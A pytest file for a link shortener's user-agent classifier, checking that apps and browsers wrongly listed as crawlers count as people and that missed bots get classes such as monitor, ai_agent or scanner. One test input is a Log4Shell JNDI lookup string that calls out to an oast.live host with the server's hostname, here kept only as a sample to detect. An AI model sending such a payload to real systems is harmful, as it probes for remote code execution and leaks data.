"""One test per correction of the upstream lists (shortlink.clicks.agent_corrections): the people
the lists take for bots, and the bots both miss, with the class each is counted under."""

import pytest

from shortlink.clicks.bots import agent_class, is_bot
from shortlink.clicks.crawler_lists import listed_crawler

ANDROID_15 = (
    "Mozilla/5.0 (Linux; Android 15; {device} Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/141.0.7390.122 Mobile Safari/537.36"
)


@pytest.mark.parametrize(
    "agent",
    [
        ANDROID_15.format(device="CPH2581"),  # OPPO on the build id a list carries
        ANDROID_15.format(device="RMX3946"),  # Realme, same build
        "Mozilla/5.0 (Linux; Android 8.1.0; XBot_Senior Build/O11019) AppleWebKit/537.36 (KHTML, like "
        "Gecko) Chrome/95.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
        "Safari/537.36",
        "Linux; U; Android 11; en_GB; Box R 4K; Build/RTT0.211009.001; Cronet/114.0.5735.33",  # a Cronet TV box
        "Mozilla/5.0 (Linux; Android 10; TLA001 Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like "
        "Gecko) Version/4.0 Chrome/80.0.3987.132 Safari/537.36 SogouMSE,SogouMobileBrowser/6.1.5",
        "Lynx/2.8.8pre.3 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.0.1e",
        "NCSA_Mosaic/2.7b5 (X11;Linux 2.6.7 i686) libwww/2.12 modified",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.61.2 "
        "Chrome/91.0.4472.164 Electron/13.5.1 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/1.2.6 "
        "Chrome/45.0.2454.85 AtomShell/0.34.3 Safari/537.36 Slack_SSB/1.2.6",
        "Mozilla/5.0 (Linux; Android 7.1.2; G011A Build/N2G48H; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Version/4.0 Chrome/66.0.3359.158 Safari/537.36 Viber/11.9.5.8",
        "NetworkingExtension/8621.3.11.10.3 Network/4277.140.33 iOS/18.6.2",  # iCloud Private Relay
        "Microsoft Office Excel/16.103.1109 (Mac OS/26.3.1; Desktop; en-US; AppStore; Apple/Mac16,1)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; QQDownload 760; .NET CLR 2.0.50727)",
        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_5_6; en-us) AppleWebKit/528.16 (KHTML, like Gecko) "
        "Fluid/0.9.6 Safari/528.16",
        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 "
        "Safari/537.36 HbbTV/1.6.1 (+DRM; LGE/KTC/BOTECH; 58BSE9503; WEBOS22 04.42.26; W22_K8LP; DTV_C22P;)",
        # The Sogou search app's web view
        "Mozilla/5.0 (Linux; Android 10; V1955A Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Version/4.0 Chrome/87.0.4280.141 Mobile Safari/537.36 SGInfo/1080/2244/3.0 SogouSearch Android1.0 "
        "version3.0 AppVersion/8120 NoHead",
        # The Baidu app, its token's id ending in 008
        "Mozilla/5.0 (Linux; U; Android 4.4.2; zh-cn; H30-T00 Build/HuaweiH30-T00) AppleWebKit/534.30 (KHTML, like "
        "Gecko) Version/4.0 Mobile Safari/534.30 baiduboxapp/0_0.5_diordna_0_0/LUN_61_0.0_LUN/7300001a/"
        "0A1B2C3D%7C0008/1",
        # The Yandex search app
        "Mozilla/5.0 (Linux; arm_64; Android 12; SM-A525F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/104.0.0.0 "
        "YaSearchBrowser/22.91.1 YaApp_Android/22.91.1 ru.yandex.searchplugin/22.91.220901001 (samsung SM-A525F; "
        "Android 12) ZenKit/22.9.1",
        "mojeek-app",  # Mojeek's search app
        "TikTok 26.2.0 rv:262018 (iPhone; iOS 15.4; en_US) Cronet",  # apps on Cronet
        "CronetSnapDevAndroid/2",
        "Microsoft Office/16.0 (OMDroid 13; officemobile 16.0.16026; Pro)",  # Office for phones
        "Microsoft Office/15.0 (Windows NT 10.0; Microsoft Lync 15.0.5023; Pro)",  # a Lync chat
        # A TV's app on libcurl
        "otg/1.6.0 (AppleTv Apple TV 4K; tvOS17.1; appletv.client) libcurl/7.58.0 OpenSSL/1.0.2o zlib/1.2.11",
    ],
)
def test_people_a_list_takes_for_bots_are_people(agent):
    assert listed_crawler(agent)  # the upstream answer we correct
    assert agent_class(agent) == "person"


@pytest.mark.parametrize(
    ("agent", "bot", "kind"),
    [
        ("Pinterest for iOS/11.2 (iPhone12,1; 16.3)", "Pinterest/0.2 (+https://www.pinterest.com/)", "previewer"),
        ("Pinterest for Android/10.4.1 (SM-G991B; 13)", "Pinterestbot", "previewer"),
        ("Spotify/8.8.12 Android/33 (SM-S901B)", "Spotify/1.0", "crawler"),  # the app; its podcast fetcher
        ("Theyub v7.5.1 IOS iPhone12 US en", "Theyub v7.5.1", "crawler"),  # its system named: an app
        ("Amazon;AFTMM;0123456789abcdef0123456789abcdef;;tpapi;3.202.356", "Amazon;AFTMM;tpapi", "crawler"),
        ("sony_tv;ps4;fedcba9876543210fedcba9876543210;;tpapi", "sony_tv;ps4", "crawler"),
    ],
)
def test_people_our_own_rules_would_take_for_bots_are_people(agent, bot, kind):
    # Given an app's User-Agent that one of our rules matches by its shape or a name
    assert not listed_crawler(agent)
    # Then it is a person's, while the bot that rule is for keeps its class
    assert (agent_class(agent), agent_class(bot)) == ("person", kind)


@pytest.mark.parametrize(
    ("agent", "kind"),
    [
        (
            "Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; Storebot-Google/1.0) AppleWebKit/537.36",
            "crawler",
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google-Sites-Thumbnails) "
            "Chrome/120.0 Safari/537.36",
            "previewer",
        ),
        ("azure-logic-apps/1.0 (workflow 1; version 2) microsoft-flow/1.0", "monitor"),
        ("Google-Cloud-Scheduler", "monitor"),
        ("Prometheus/2.40.5", "monitor"),
        ("collectd/5.5.1", "monitor"),
        ("munin/http_loadtime", "monitor"),
        ("claude-code/1.0.3", "ai_agent"),
        ("OpenAI/JS 4.20.1", "ai_agent"),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Anthropic-Claude/1.0; "
            "+https://www.anthropic.com)",
            "ai_agent",
        ),
        ("GitHubCopilotChat/0.8.0", "ai_agent"),
        ("${jndi:ldap://${hostName}.useragent.x.oast.live}", "scanner"),
        ("Mozilla/5.0 (compatible; NetScope-DomainScanner/1.0; security research scanner)", "scanner"),
        ("Proofpoint URL Defense", "scanner"),
        ("Mimecast Link Scanner", "scanner"),
        ("Request-Promise", "library"),
        ("Node.js", "library"),
        ("HTTPie/3.2.2", "library"),
        ("Castro 2, Episode Duration Lookup", "crawler"),
        ("Mozilla/5.0 (compatible; Dormouse/1.0)", "crawler"),
        ("Mozilla/5.0 (compatible)", "crawler"),
        ("Mozilla/5.0 Keydrop", "crawler"),
        ("Hello, world", "crawler"),
        ("", "library"),
    ],
)
def test_bots_both_lists_miss_are_bots_of_their_class(agent, kind):
    assert agent_class(agent) == kind
    assert is_bot(agent)


@pytest.mark.parametrize(
    "agent",
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
        "Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
        "Mozilla/5.0 (compatible; Konqueror/4.3; Linux) KHTML/4.3.4 (like Gecko)",
        "Mozilla/5.0 (Linux; Android 4.2.2; CUBOT C9W Build/JDQ39) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/32.0.1700.99 Mobile Safari/537.36",
    ],
)
def test_browsers_are_people(agent):
    assert agent_class(agent) == "person"


@pytest.mark.parametrize(
    ("agent", "kind"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler"),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "previewer"),
        ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "previewer"),
        ("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5)", "previewer"),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1; +https://openai.com/gptbot)",
            "ai_agent",
        ),
        ("curl/8.4.0", "library"),
        ("Amazon-Route53-Health-Check-Service (ref 0c5a1b2e; report http://amzn.to/1vsZADi)", "monitor"),
    ],
)
def test_bots_the_lists_know_get_a_class(agent, kind):
    assert agent_class(agent) == kind
